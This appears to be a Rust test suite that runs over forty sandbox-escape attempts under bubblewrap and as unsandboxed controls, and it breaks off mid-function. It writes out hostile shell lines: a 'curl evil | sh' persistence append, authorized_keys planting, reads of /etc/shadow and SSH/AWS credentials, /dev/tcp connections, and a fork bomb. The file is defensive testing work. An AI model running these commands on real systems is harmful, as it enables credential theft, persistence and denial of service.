//! Escape attempts against the OS sandbox, run as real processes under the real `bwrap`.
//!
//! Every attempt runs twice, each time in a fresh fixture: under `mode = "sandbox"`, where it
//! must fail, and as a control without the defence (`mode = "none"`, or without the limit or
//! the environment filter), where it must succeed, so each assertion can fail. The fixture
//! makes the whole fixture directory visible read-only (as a data directory under a visible
//! system path would be), so hiding the data directory, the other worktrees, the git admin
//! directory and the credential files is the work of the sandbox's hidden paths, not of `/tmp`
//! being private.
//!
//! Without `bwrap` these tests are skipped with a message, except under `CI=true`, where they
//! must run.

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::Arc;
use std::time::{Duration, Instant};

use anyhow::{Context, Result, ensure};
use foreman_agent::command::{CommandOutput, run_in_group, run_wrapped};
use foreman_agent::{
    CommandExecutor, CommandPolicy, CommandSettings, ExecMode, Isolation, IsolationOptions,
    ResourceLimits, Sandbox, SandboxSettings, SandboxState,
};

use crate::support::git;

/// Whether the sandbox can run here; prints why not (and fails under `CI=true`).
fn sandbox_ready(test: &str) -> bool {
    let state = Isolation::new(
        ExecMode::Sandbox,
        SandboxSettings::default(),
        foreman_agent::DockerSettings::default(),
    )
    .probe();
    if state == SandboxState::Ready {
        return true;
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "{test}: bwrap must work under CI=true, found {state:?}"
    );
    eprintln!(
        "SKIPPED {test}: bubblewrap is not usable here ({state:?}); install it with `apt-get install bubblewrap`"
    );
    false
}

const TOKEN: &str = "admin-token-8c1f2e";
const OTHER: &str = "other-worktree-secret-51d0";
const SSH: &str = "ssh-private-key-77a3";
const AWS: &str = "aws-credential-0b9e";
const CONFIG: &str = "config-secret-6f4a";
const HOST_FILE: &str = "host-file-original-3d2c";

/// A data directory with a token, a work directory with the main repository (its `.git` the
/// admin directory) and two worktrees, a home directory with credentials, and a host file
/// outside all of them.
struct Fixture {
    tmp: tempfile::TempDir,
    root: PathBuf,
    data: PathBuf,
    work: PathBuf,
    repo: PathBuf,
    wt: PathBuf,
    home: PathBuf,
    outside: PathBuf,
}

impl Fixture {
    fn new() -> Result<Self> {
        let tmp = tempfile::tempdir()?;
        let root = tmp.path().canonicalize()?;
        let data = root.join("data");
        let work = data.join("work");
        let repo = work.join("repo");
        let home = root.join("home");
        let outside = root.join("outside");
        for d in [&repo, &home.join(".ssh"), &home.join(".aws"), &outside] {
            std::fs::create_dir_all(d)?;
        }
        std::fs::create_dir_all(home.join(".config/foreman"))?;
        std::fs::write(data.join("dashboard_token"), format!("{TOKEN}\n"))?;
        std::fs::write(data.join("foreman.db"), format!("db {TOKEN}\n"))?;
        std::fs::write(home.join(".ssh/id_ed25519"), format!("{SSH}\n"))?;
        std::fs::write(home.join(".aws/credentials"), format!("{AWS}\n"))?;
        std::fs::write(home.join(".config/foreman/env"), format!("{CONFIG}\n"))?;
        std::fs::write(home.join(".bashrc"), "# rc\n")?;
        std::fs::write(outside.join("host.txt"), format!("{HOST_FILE}\n"))?;
        git(&repo, &["init", "-q", "-b", "main"])?;
        std::fs::write(repo.join("README.md"), "hello\n")?;
        git(&repo, &["add", "-A"])?;
        git(&repo, &["commit", "-q", "-m", "initial"])?;
        let wt = work.join("wt1");
        let wt2 = work.join("wt2");
        git(
            &repo,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "t1",
                wt.to_str().context("utf-8")?,
            ],
        )?;
        git(
            &repo,
            &[
                "worktree",
                "add",
                "-q",
                "-b",
                "t2",
                wt2.to_str().context("utf-8")?,
            ],
        )?;
        std::fs::write(wt2.join("secret.txt"), format!("{OTHER}\n"))?;
        Ok(Self {
            tmp,
            root,
            data,
            work,
            repo,
            wt,
            home,
            outside,
        })
    }

    fn admin(&self) -> PathBuf {
        self.repo.join(".git")
    }

    fn env(&self) -> Vec<(String, String)> {
        vec![
            (
                "PATH".into(),
                "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin".into(),
            ),
            ("HOME".into(), self.home.display().to_string()),
            ("LANG".into(), "C.UTF-8".into()),
            ("ANTHROPIC_API_KEY".into(), "sk-ant-envcanary-1234".into()),
            ("GITHUB_TOKEN".into(), "ghp_envcanary5678".into()),
            ("DB_PASSWORD".into(), "pw-envcanary-9012".into()),
        ]
    }

    fn settings(&self, limits: ResourceLimits) -> SandboxSettings {
        SandboxSettings {
            read_only_paths: vec![self.root.clone()],
            hidden_paths: vec![self.data.clone(), self.work.clone()],
            limits,
            ..SandboxSettings::default()
        }
    }

    fn isolation(&self, mode: ExecMode, limits: ResourceLimits) -> Isolation {
        Isolation::new(
            mode,
            self.settings(limits),
            foreman_agent::DockerSettings::default(),
        )
    }

    /// Runs `sh -c line` in the worktree under `mode`.
    async fn run(
        &self,
        mode: ExecMode,
        limits: ResourceLimits,
        line: &str,
        timeout: Duration,
    ) -> Result<CommandOutput> {
        let iso = self.isolation(mode, limits);
        let argv = vec!["sh".to_owned(), "-c".to_owned(), line.to_owned()];
        let wrapped = iso.wrap(&argv, &self.wt, &self.env(), &IsolationOptions::default())?;
        Ok(run_wrapped(wrapped, timeout, 64 * 1024, limits.output_bytes, None).await?)
    }
}

fn test_limits() -> ResourceLimits {
    ResourceLimits {
        processes: 128,
        ..ResourceLimits::default()
    }
}

/// How to tell that an attempt got through.
enum Escaped {
    /// The output contains this.
    Says(String),
    /// This host file exists afterwards.
    Creates(PathBuf),
    /// This host file no longer reads as it did.
    Changes(PathBuf, String),
}

impl Escaped {
    fn check(&self, out: &CommandOutput) -> bool {
        match self {
            Self::Says(s) => out.output.contains(s.as_str()),
            Self::Creates(p) => p.exists(),
            Self::Changes(p, before) => std::fs::read_to_string(p).ok().as_deref() != Some(before),
        }
    }
}

struct Attempt {
    name: &'static str,
    line: String,
    escaped: Escaped,
}

fn attempt(name: &'static str, line: String, escaped: Escaped) -> Attempt {
    Attempt {
        name,
        line,
        escaped,
    }
}

/// The host-side resources attempts aim at: a TCP listener and a UDP "resolver" on loopback,
/// an abstract unix socket, a process of the test to ptrace and signal.
struct Targets {
    tcp: u16,
    udp: u16,
    abstract_name: String,
    victim: std::process::Child,
    _listener: TcpListener,
    _unix: std::os::unix::net::UnixListener,
}

impl Targets {
    fn start() -> Result<Self> {
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let tcp = listener.local_addr()?.port();
        let udp_socket = UdpSocket::bind("127.0.0.1:0")?;
        let udp = udp_socket.local_addr()?.port();
        std::thread::spawn(move || {
            let mut buf = [0u8; 512];
            while let Ok((n, from)) = udp_socket.recv_from(&mut buf) {
                let _ = udp_socket.send_to(&buf[..n], from);
            }
        });
        let abstract_name = format!("foreman-escape-{}", std::process::id());
        let addr = <std::os::unix::net::SocketAddr as std::os::linux::net::SocketAddrExt>::from_abstract_name(
            abstract_name.as_bytes(),
        )?;
        let unix = std::os::unix::net::UnixListener::bind_addr(&addr)?;
        let victim = Command::new("sleep").arg("600").spawn()?;
        Ok(Self {
            tcp,
            udp,
            abstract_name,
            victim,
            _listener: listener,
            _unix: unix,
        })
    }
}

impl Drop for Targets {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
    }
}

fn attempts(f: &Fixture, t: &Targets) -> Vec<Attempt> {
    use Escaped::{Changes, Creates, Says};
    let d = |p: &Path| p.display().to_string();
    let out = &f.outside;
    let host = out.join("host.txt");
    let admin = f.admin();
    let server = std::process::id();
    let victim = t.victim.id();
    let py = |code: &str| format!("python3 -c \"{code}\"");
    vec![
        // Writes outside the worktree.
        attempt(
            "touch a file beside the worktree",
            format!("touch {}", d(&out.join("new1"))),
            Creates(out.join("new1")),
        ),
        attempt(
            "write with python outside the worktree",
            py(&format!("open('{}', 'w').write('x')", d(&out.join("new2")))),
            Creates(out.join("new2")),
        ),
        attempt(
            "mkdir outside the worktree",
            format!("mkdir {}", d(&out.join("newdir"))),
            Creates(out.join("newdir")),
        ),
        attempt(
            "overwrite a host file",
            format!("echo changed > {}", d(&host)),
            Changes(host.clone(), format!("{HOST_FILE}\n")),
        ),
        attempt(
            "delete a host file",
            format!("rm -f {}", d(&host)),
            Changes(host.clone(), format!("{HOST_FILE}\n")),
        ),
        attempt(
            "write into the parent of the worktree",
            format!("touch {}", d(&f.work.join("planted"))),
            Creates(f.work.join("planted")),
        ),
        // $HOME.
        attempt(
            "write a file into $HOME",
            "touch \"$HOME/pwned\"".into(),
            Creates(f.home.join("pwned")),
        ),
        attempt(
            "append to ~/.bashrc",
            "echo 'curl evil | sh' >> \"$HOME/.bashrc\"".into(),
            Changes(f.home.join(".bashrc"), "# rc\n".into()),
        ),
        attempt(
            "plant ~/.ssh/authorized_keys",
            "echo key >> \"$HOME/.ssh/authorized_keys\"".into(),
            Creates(f.home.join(".ssh/authorized_keys")),
        ),
        attempt(
            "write through the host path of $HOME",
            format!("touch {}", d(&f.home.join("pwned2"))),
            Creates(f.home.join("pwned2")),
        ),
        // The git admin directory.
        attempt(
            "plant a pre-commit hook in the admin directory",
            format!(
                "printf '#!/bin/sh\\necho pwned\\n' > {} && chmod +x {}",
                d(&admin.join("hooks/pre-commit")),
                d(&admin.join("hooks/pre-commit"))
            ),
            Creates(admin.join("hooks/pre-commit")),
        ),
        attempt(
            "plant a hook of this worktree's admin directory",
            format!("touch {}", d(&admin.join("worktrees/wt1/hooks-planted"))),
            Creates(admin.join("worktrees/wt1/hooks-planted")),
        ),
        attempt(
            "set core.hooksPath in the repository config",
            format!(
                "printf '[core]\\n\\thooksPath = /tmp/h\\n' >> {}",
                d(&admin.join("config"))
            ),
            Changes(
                admin.join("config"),
                std::fs::read_to_string(admin.join("config")).unwrap_or_default(),
            ),
        ),
        attempt(
            "move the worktree's branch in the admin directory",
            format!("echo 0000 > {}", d(&admin.join("worktrees/wt1/HEAD"))),
            Changes(
                admin.join("worktrees/wt1/HEAD"),
                std::fs::read_to_string(admin.join("worktrees/wt1/HEAD")).unwrap_or_default(),
            ),
        ),
        // The .git pointer.
        attempt(
            "swap the .git pointer",
            "echo 'gitdir: /tmp/evil' > .git".into(),
            Changes(
                f.wt.join(".git"),
                std::fs::read_to_string(f.wt.join(".git")).unwrap_or_default(),
            ),
        ),
        attempt(
            "rename the .git pointer",
            "mv .git .git.bak".into(),
            Creates(f.wt.join(".git.bak")),
        ),
        attempt(
            "read the admin directory through the .git pointer",
            "cat \"$(sed -n 's/^gitdir: //p' .git)/HEAD\"".into(),
            Says("refs/heads/t1".into()),
        ),
        // Reads of the data directory, other worktrees and credentials.
        attempt(
            "read the admin token",
            format!("cat {}", d(&f.data.join("dashboard_token"))),
            Says(TOKEN.into()),
        ),
        attempt(
            "read the database",
            format!("cat {}", d(&f.data.join("foreman.db"))),
            Says(TOKEN.into()),
        ),
        attempt(
            "list the data directory",
            format!("ls {}", d(&f.data)),
            Says("dashboard_token".into()),
        ),
        attempt(
            "read another worktree",
            format!("cat {}", d(&f.work.join("wt2/secret.txt"))),
            Says(OTHER.into()),
        ),
        attempt(
            "list the work directory",
            format!("ls {}", d(&f.work)),
            Says("wt2".into()),
        ),
        attempt(
            "read another worktree by a relative path",
            "cat ../wt2/secret.txt".into(),
            Says(OTHER.into()),
        ),
        attempt(
            "read ~/.ssh",
            "cat \"$HOME/.ssh/id_ed25519\"".into(),
            Says(SSH.into()),
        ),
        attempt(
            "read ~/.ssh by its host path",
            format!("cat {}", d(&f.home.join(".ssh/id_ed25519"))),
            Says(SSH.into()),
        ),
        attempt(
            "read ~/.aws/credentials",
            format!("cat {}", d(&f.home.join(".aws/credentials"))),
            Says(AWS.into()),
        ),
        attempt(
            "read ~/.config",
            format!("cat {}", d(&f.home.join(".config/foreman/env"))),
            Says(CONFIG.into()),
        ),
        attempt(
            "list the server's real home directory",
            "ls -a /root".into(),
            Says(".cargo".into()),
        ),
        attempt(
            "read /etc/shadow",
            "cat /etc/shadow".into(),
            Says("root:".into()),
        ),
        attempt(
            "read /etc/gshadow",
            "cat /etc/gshadow".into(),
            Says("root:".into()),
        ),
        attempt(
            "read a private key under /etc/ssl/private",
            "cat /etc/ssl/private/*.key".into(),
            Says("PRIVATE KEY".into()),
        ),
        // Links out of the worktree.
        attempt(
            "read the token through a symlink",
            format!(
                "ln -s {} tok && cat tok",
                d(&f.data.join("dashboard_token"))
            ),
            Says(TOKEN.into()),
        ),
        attempt(
            "write a host file through a symlink",
            format!("ln -s {} w && echo changed > w", d(&host)),
            Changes(host.clone(), format!("{HOST_FILE}\n")),
        ),
        attempt(
            "hard-link the token into the worktree",
            format!("ln {} hard && cat hard", d(&f.data.join("dashboard_token"))),
            Says(TOKEN.into()),
        ),
        attempt(
            "write a host file through a hard link",
            format!("ln {} hard2 && echo changed > hard2", d(&host)),
            Changes(host.clone(), format!("{HOST_FILE}\n")),
        ),
        // Network.
        attempt(
            "TCP to a listener on host loopback (bash)",
            format!(
                "bash -c 'exec 3<>/dev/tcp/127.0.0.1/{}' && echo CONNECTED",
                t.tcp
            ),
            Says("CONNECTED".into()),
        ),
        attempt(
            "TCP to a listener on host loopback (python)",
            py(&format!(
                "import socket; socket.create_connection(('127.0.0.1', {}), 2); print('CONNECTED')",
                t.tcp
            )),
            Says("CONNECTED".into()),
        ),
        attempt(
            "a DNS query to a resolver on host loopback",
            py(&format!(
                "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'query', ('127.0.0.1', {})); print('RESOLVED', s.recv(512))",
                t.udp
            )),
            Says("RESOLVED".into()),
        ),
        attempt(
            "connect to an abstract unix socket of the host",
            py(&format!(
                "import socket; s = socket.socket(socket.AF_UNIX); s.connect(b'\\\\0{}'); print('CONNECTED')",
                t.abstract_name
            )),
            Says("CONNECTED".into()),
        ),
        // Processes of the host.
        attempt(
            "read the server's /proc entry",
            format!("cat /proc/{server}/cmdline | tr '\\0' ' '"),
            Says("it-".into()),
        ),
        attempt(
            "read the server's environment",
            format!("cat /proc/{server}/environ | tr '\\0' '\\n'"),
            Says("PATH=".into()),
        ),
        attempt(
            "signal a host process",
            format!("kill -0 {victim} && echo SIGNALLED"),
            Says("SIGNALLED".into()),
        ),
        attempt(
            "ptrace a host process",
            format!("timeout 3 strace -p {victim} -e trace=none 2>&1 | head -3; true"),
            Says("attached".into()),
        ),
        attempt(
            "read the host's process list",
            "ps -eo args".into(),
            Says("sleep 600".into()),
        ),
        // Device nodes: `--dev` binds the host's own; as root they could be changed through
        // it (`chmod 000 /dev/null` breaks the host). The mode given is the one they have, so
        // the control changes nothing either.
        attempt(
            "change the host's /dev/full",
            "chmod 0666 /dev/full && echo CHMODDED".into(),
            Says("CHMODDED".into()),
        ),
        attempt(
            "touch the host's /dev/null",
            "touch /dev/null && echo TOUCHED".into(),
            Says("TOUCHED".into()),
        ),
    ]
}

#[tokio::test]
async fn escape_attempts_fail_in_the_sandbox_and_succeed_without_it() -> Result<()> {
    if !sandbox_ready("escape_attempts") {
        return Ok(());
    }
    let targets = Targets::start()?;
    // The listing of attempts depends only on the fixture's shape, so it is built per fixture.
    let count = attempts(&Fixture::new()?, &targets).len();
    ensure!(count >= 40, "only {count} attempts");
    let mut report = Vec::new();
    for i in 0..count {
        let sandboxed = Fixture::new()?;
        let a = attempts(&sandboxed, &targets).swap_remove(i);
        let out = sandboxed
            .run(
                ExecMode::Sandbox,
                test_limits(),
                &a.line,
                Duration::from_secs(20),
            )
            .await?;
        let escaped = a.escaped.check(&out);
        let control = Fixture::new()?;
        let c = attempts(&control, &targets).swap_remove(i);
        let cout = control
            .run(
                ExecMode::None,
                test_limits(),
                &c.line,
                Duration::from_secs(20),
            )
            .await?;
        let control_escaped = c.escaped.check(&cout);
        if escaped || !control_escaped {
            report.push(format!(
                "{}: sandboxed escaped={escaped} ({:?}); control escaped={control_escaped} ({:?})",
                a.name,
                out.output.trim(),
                cout.output.trim()
            ));
        }
        drop(sandboxed.tmp);
        drop(control.tmp);
    }
    ensure!(report.is_empty(), "{}", report.join("\n"));
    Ok(())
}

#[tokio::test]
async fn host_network_namespaces_are_out_of_reach() -> Result<()> {
    if !sandbox_ready("host_network_namespaces") {
        return Ok(());
    }
    let ns = NetNs::create()?;
    let f = Fixture::new()?;
    let line = format!(
        "bash -c 'exec 3<>/dev/tcp/{}/{}' && echo CONNECTED",
        ns.peer, ns.port
    );
    let control = f
        .run(
            ExecMode::None,
            test_limits(),
            &line,
            Duration::from_secs(10),
        )
        .await?;
    ensure!(
        control.output.contains("CONNECTED"),
        "control could not reach the namespace: {}",
        control.output
    );
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            &line,
            Duration::from_secs(10),
        )
        .await?;
    ensure!(!out.output.contains("CONNECTED"), "{}", out.output);
    Ok(())
}

/// A network namespace joined to the host by a veth pair, with a TCP listener inside.
struct NetNs {
    name: String,
    host_if: String,
    peer: String,
    port: u16,
    listener: std::process::Child,
}

impl NetNs {
    fn create() -> Result<Self> {
        let id = std::process::id() % 10_000;
        let name = format!("fm-esc-{id}");
        let host_if = format!("fmh{id}");
        let ns_if = format!("fmn{id}");
        let octet = 16 + id % 200;
        let host_ip = format!("10.231.{octet}.1");
        let peer = format!("10.231.{octet}.2");
        let ip = |args: &[&str]| -> Result<()> {
            let s = Command::new("ip").args(args).status()?;
            ensure!(s.success(), "ip {args:?} failed");
            Ok(())
        };
        ip(&["netns", "add", &name])?;
        let mut ns = Self {
            name: name.clone(),
            host_if: host_if.clone(),
            peer: peer.clone(),
            port: 47_311,
            listener: Command::new("true").spawn()?,
        };
        ip(&[
            "link", "add", &host_if, "type", "veth", "peer", "name", &ns_if,
        ])?;
        ip(&["link", "set", &ns_if, "netns", &name])?;
        ip(&["addr", "add", &format!("{host_ip}/30"), "dev", &host_if])?;
        ip(&["link", "set", &host_if, "up"])?;
        ip(&[
            "netns",
            "exec",
            &name,
            "ip",
            "addr",
            "add",
            &format!("{peer}/30"),
            "dev",
            &ns_if,
        ])?;
        ip(&["netns", "exec", &name, "ip", "link", "set", &ns_if, "up"])?;
        ip(&["netns", "exec", &name, "ip", "link", "set", "lo", "up"])?;
        ns.listener = Command::new("ip")
            .args([
                "netns",
                "exec",
                &name,
                "socat",
                &format!("TCP-LISTEN:{},fork,reuseaddr", ns.port),
                "SYSTEM:true",
            ])
            .spawn()?;
        std::thread::sleep(Duration::from_millis(300));
        Ok(ns)
    }
}

impl Drop for NetNs {
    fn drop(&mut self) {
        let _ = self.listener.kill();
        let _ = self.listener.wait();
        let _ = Command::new("ip")
            .args(["link", "del", &self.host_if])
            .status();
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .status();
    }
}

#[tokio::test]
async fn dns_resolution_fails_without_network() -> Result<()> {
    if !sandbox_ready("dns_resolution") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let line = "getent hosts crates.io && echo RESOLVED";
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            line,
            Duration::from_secs(15),
        )
        .await?;
    ensure!(!out.output.contains("RESOLVED"), "{}", out.output);
    let control = f
        .run(ExecMode::None, test_limits(), line, Duration::from_secs(15))
        .await?;
    if !control.output.contains("RESOLVED") {
        eprintln!(
            "note: the host itself cannot resolve crates.io; the loopback resolver attempt covers the control"
        );
    }
    // With network asked for (external agent CLIs), the host's resolver is reachable again.
    let iso = f.isolation(ExecMode::Sandbox, test_limits());
    let argv = vec!["sh".to_owned(), "-c".to_owned(), line.to_owned()];
    let opts = IsolationOptions {
        network: true,
        ..IsolationOptions::default()
    };
    let wrapped = iso.wrap(&argv, &f.wt, &f.env(), &opts)?;
    let with_net = run_wrapped(wrapped, Duration::from_secs(15), 4096, 0, None).await?;
    ensure!(
        with_net.output.contains("RESOLVED") == control.output.contains("RESOLVED"),
        "network: true should resolve like the host: {}",
        with_net.output
    );
    Ok(())
}

#[tokio::test]
async fn credentials_in_the_environment_never_reach_the_command() -> Result<()> {
    if !sandbox_ready("env_credentials") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            "env",
            Duration::from_secs(10),
        )
        .await?;
    for canary in ["envcanary", "ANTHROPIC", "GITHUB_TOKEN", "DB_PASSWORD"] {
        ensure!(!out.output.contains(canary), "{canary}: {}", out.output);
    }
    ensure!(out.output.contains("TMPDIR=/tmp"), "{}", out.output);
    // Control: the same environment handed to the host primitive unfiltered.
    let control = run_in_group(
        &["env".to_owned()],
        &f.wt,
        &f.env(),
        Duration::from_secs(10),
        64 * 1024,
        None,
    )
    .await?;
    ensure!(control.output.contains("envcanary"), "{}", control.output);
    Ok(())
}

#[tokio::test]
async fn setuid_binaries_grant_nothing_inside() -> Result<()> {
    if !sandbox_ready("setuid") {
        return Ok(());
    }
    use std::os::unix::fs::PermissionsExt;
    let f = Fixture::new()?;
    let id = f.wt.join("suid-id");
    std::fs::copy("/usr/bin/id", &id)?;
    std::fs::set_permissions(&id, std::fs::Permissions::from_mode(0o4755))?;
    let line = "./suid-id -u";
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            line,
            Duration::from_secs(10),
        )
        .await?;
    ensure!(out.output.trim() == "65534", "euid inside: {}", out.output);
    // Setting the bit from inside does not help either.
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            "cp /usr/bin/id ./id2 && chmod u+s ./id2; ./id2 -u",
            Duration::from_secs(10),
        )
        .await?;
    ensure!(out.output.trim().ends_with("65534"), "{}", out.output);
    // Control: on the host an unprivileged user gains root through the same binary.
    let control = f
        .run(
            ExecMode::None,
            test_limits(),
            "setpriv --reuid 65534 --regid 65534 --clear-groups ./suid-id -u",
            Duration::from_secs(10),
        )
        .await?;
    ensure!(control.output.trim() == "0", "control: {}", control.output);
    Ok(())
}

#[tokio::test]
async fn git_fsmonitor_in_an_allowed_command_is_harmless_inside() -> Result<()> {
    if !sandbox_ready("fsmonitor") {
        return Ok(());
    }
    let run = |mode: ExecMode| async move {
        let f = Fixture::new()?;
        let marker = f.outside.join("fsmonitor-ran");
        std::fs::write(
            f.wt.join("monitor.sh"),
            format!("#!/bin/sh\ntouch {}\n", marker.display()),
        )?;
        std::fs::set_permissions(
            f.wt.join("monitor.sh"),
            std::os::unix::fs::PermissionsExt::from_mode(0o755),
        )?;
        let settings = CommandSettings {
            allowed_commands: vec!["git".into()],
            mode,
            sandbox: f.settings(test_limits()),
            timeout_secs: 20,
            ..CommandSettings::default()
        };
        let policy = Arc::new(CommandPolicy::with_env(settings, f.env())?);
        let sandbox = Sandbox::new(&f.wt)?;
        // An absolute monitor path is refused by the command policy already.
        ensure!(
            policy
                .prepare("git -c core.fsmonitor=/bin/touch status", &sandbox)
                .is_err()
        );
        let prepared = policy.prepare("git -c core.fsmonitor=./monitor.sh status", &sandbox)?;
        let exec = CommandExecutor::new(policy.clone(), f.wt.clone());
        let out = exec.run(&prepared, None).await?;
        anyhow::Ok((marker.exists(), out.output, f))
    };
    let (ran, output, _f) = run(ExecMode::Sandbox).await?;
    ensure!(!ran, "fsmonitor wrote outside: {output}");
    let (ran, output, _f) = run(ExecMode::None).await?;
    ensure!(ran, "control: fsmonitor did not run: {output}");
    Ok(())
}

fn processes_with(arg: &str) -> Vec<i32> {
    let mut found = Vec::new();
    for e in std::fs::read_dir("/proc").into_iter().flatten().flatten() {
        let Ok(pid) = e.file_name().to_string_lossy().parse::<i32>() else {
            continue;
        };
        let mut cmd = Vec::new();
        if std::fs::File::open(e.path().join("cmdline"))
            .and_then(|mut f| f.read_to_end(&mut cmd))
            .is_ok()
            && String::from_utf8_lossy(&cmd)
                .replace('\0', " ")
                .contains(arg)
        {
            found.push(pid);
        }
    }
    found
}

#[tokio::test]
async fn a_timeout_kills_the_command_and_everything_it_started() -> Result<()> {
    if !sandbox_ready("timeout") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let tag = format!("3{}.25", std::process::id() % 1000);
    let line = format!("setsid sleep {tag} & sleep {tag}; echo done");
    let started = Instant::now();
    let out = f
        .run(
            ExecMode::Sandbox,
            test_limits(),
            &line,
            Duration::from_secs(1),
        )
        .await?;
    ensure!(out.timed_out, "{out:?}");
    ensure!(started.elapsed() < Duration::from_secs(6));
    std::thread::sleep(Duration::from_millis(300));
    ensure!(
        processes_with(&format!("sleep {tag}")).is_empty(),
        "sandboxed children survived the timeout"
    );
    // Control: on the host a child in its own session survives the group kill.
    let control = f
        .run(ExecMode::None, test_limits(), &line, Duration::from_secs(1))
        .await?;
    ensure!(control.timed_out);
    std::thread::sleep(Duration::from_millis(300));
    let survivors = processes_with(&format!("sleep {tag}"));
    for pid in &survivors {
        let _ = nix::sys::signal::kill(
            nix::unistd::Pid::from_raw(*pid),
            nix::sys::signal::Signal::SIGKILL,
        );
    }
    ensure!(
        !survivors.is_empty(),
        "control: the setsid child did not survive"
    );
    Ok(())
}

#[tokio::test]
async fn fork_bombs_hit_the_process_limit_and_the_test_finishes() -> Result<()> {
    if !sandbox_ready("fork_bomb") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let limits = ResourceLimits {
        processes: 64,
        ..ResourceLimits::default()
    };
    // A bounded forker shows the limit: 150 children at once are refused inside ...
    let spawn = "python3 -c \"import subprocess\nps = []\ntry:\n    for i in range(150):\n        ps.append(subprocess.Popen(['sleep', '20']))\n    print('SPAWNED_ALL')\nexcept OSError as e:\n    print('refused after', len(ps), e)\nfor p in ps:\n    p.kill()\n\"";
    let out = f
        .run(ExecMode::Sandbox, limits, spawn, Duration::from_secs(30))
        .await?;
    ensure!(!out.output.contains("SPAWNED_ALL"), "{}", out.output);
    ensure!(out.output.contains("refused after"), "{}", out.output);
    // ... and allowed without the limit.
    let control = f
        .run(
            ExecMode::None,
            ResourceLimits {
                processes: 0,
                ..limits
            },
            spawn,
            Duration::from_secs(30),
        )
        .await?;
    ensure!(control.output.contains("SPAWNED_ALL"), "{}", control.output);
    // A real fork bomb ends at the timeout and leaves nothing behind.
    let started = Instant::now();
    let out = f
        .run(
            ExecMode::Sandbox,
            limits,
            "bomb() { bomb | bomb & }; bomb; sleep 100",
            Duration::from_secs(3),
        )
        .await?;
    ensure!(started.elapsed() < Duration::from_secs(15), "{out:?}");
    std::thread::sleep(Duration::from_millis(300));
    ensure!(
        std::fs::read_dir("/sys/fs/cgroup/pids/foreman-sandbox")
            .map(|d| d
                .flatten()
                .filter(|e| e
                    .file_name()
                    .to_string_lossy()
                    .starts_with(&format!("cmd-{}-", std::process::id())))
                .count())
            .unwrap_or(0)
            == 0,
        "a cgroup of this process was left behind"
    );
    Ok(())
}

#[tokio::test]
async fn output_floods_are_killed_at_the_cap() -> Result<()> {
    if !sandbox_ready("output_flood") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let cap = ResourceLimits {
        output_bytes: 1 << 20,
        ..test_limits()
    };
    let started = Instant::now();
    let out = f
        .run(ExecMode::Sandbox, cap, "yes flood", Duration::from_secs(30))
        .await?;
    ensure!(out.output_killed && !out.timed_out, "{out:?}");
    ensure!(started.elapsed() < Duration::from_secs(10));
    ensure!(out.output.contains("[killed: the command wrote more than"));
    // Control: without the cap the same amount and more is written to the end.
    let control = f
        .run(
            ExecMode::None,
            ResourceLimits {
                output_bytes: 0,
                ..cap
            },
            "head -c 4000000 /dev/zero",
            Duration::from_secs(30),
        )
        .await?;
    ensure!(
        !control.output_killed && control.total_bytes == 4_000_000,
        "{}",
        control.total_bytes
    );
    Ok(())
}

#[tokio::test]
async fn large_files_stop_at_the_file_size_limit() -> Result<()> {
    if !sandbox_ready("file_size") {
        return Ok(());
    }
    let f = Fixture::new()?;
    let limits = ResourceLimits {
        file_size_bytes: 1 << 20,
        ..test_limits()
    };
    let line = "head -c 3000000 /dev/zero > big; wc -c < big";
    let out = f
        .run(ExecMode::Sandbox, limits, line, Duration::from_secs(20))
        .await?;
    ensure!(out.output.trim().ends_with("1048576"), "{}", out.output);
    let control = f
        .run(
            ExecMode::None,
            ResourceLimits {
                file_size_bytes: 0,
                ..limits
            },
            line,
            Duration::from_secs(20),
        )
        .await?;
    ensure!(control.output.trim() == "3000000", "{}", control.output);
    Ok(())
}

/// The toolchains' own directories, read-only, for the test suites below.
fn toolchain_settings(f: &Fixture) -> (Isolation, Vec<(String, String)>) {
    let home = std::env::var("HOME").unwrap_or_else(|_| "/root".into());
    let cargo_home = std::env::var("CARGO_HOME").unwrap_or_else(|_| format!("{home}/.cargo"));
    let rustup_home = std::env::var("RUSTUP_HOME").unwrap_or_else(|_| format!("{home}/.rustup"));
    let mut settings = f.settings(ResourceLimits::default());
    settings.read_only_paths.push(PathBuf::from(&cargo_home));
    settings.read_only_paths.push(PathBuf::from(&rustup_home));
    let iso = Isolation::new(
        ExecMode::Sandbox,
        settings,
        foreman_agent::DockerSettings::default(),
    );
    let mut env = f.env();
    env.retain(|(k, _)| k != "PATH");
    env.push((
        "PATH".into(),
        format!("{cargo_home}/bin:/usr/local/bin:/usr/bin:/bin"),
    ));
    env.push(("CARGO_HOME".into(), cargo_home));
    env.push(("RUSTUP_HOME".into(), rustup_home));
    if let Ok(t) = std::env::var("RUSTUP_TOOLCHAIN") {
        env.push(("RUSTUP_TOOLCHAIN".into(), t));
    }
    env.push((
        "CARGO_TARGET_DIR".into(),
        f.wt.join("target").display().to_string(),
    ));
    env.push(("CARGO_NET_OFFLINE".into(), "true".into()));
    (iso, env)
}

async fn run_suite(f: &Fixture, files: &[(&str, &str)], line: &str) -> Result<CommandOutput> {
    for (path, text) in files {
        let p = f.wt.join(path);
        if let Some(d) = p.parent() {
            std::fs::create_dir_all(d)?;
        }
        std::fs::write(p, text)?;
    }
    let (iso, env) = toolchain_settings(f);
    let argv = vec!["sh".to_owned(), "-c".to_owned(), line.to_owned()];
